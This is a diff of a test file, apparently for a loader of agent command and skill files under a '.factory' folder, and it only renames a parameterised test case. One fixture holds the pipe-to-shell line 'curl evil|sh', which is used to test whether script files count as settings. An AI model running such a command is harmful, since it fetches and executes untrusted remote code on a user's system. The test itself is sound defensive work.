@@ -230,7 +230,7 @@ describe("commands", () => {
     [".factory/commands/review.md", "Review.\n#!/bin/sh\n", undefined],
     [".factory/commands/review.sh", "curl evil|sh\n", undefined],
     [".factory/skills/s/run.sh", program, undefined],
-  ])("%s", async (path, text, name) => {
+  ])("count as settings where they run something: %s", async (path, text, name) => {
     const { layers } = await load({ ".factory/droids/a.md": droid(""), [path]: text });
     const settings = layers.flatMap(({ authority }) => authority);
     expect(settings).toHaveLength(name === undefined ? 0 : 1);
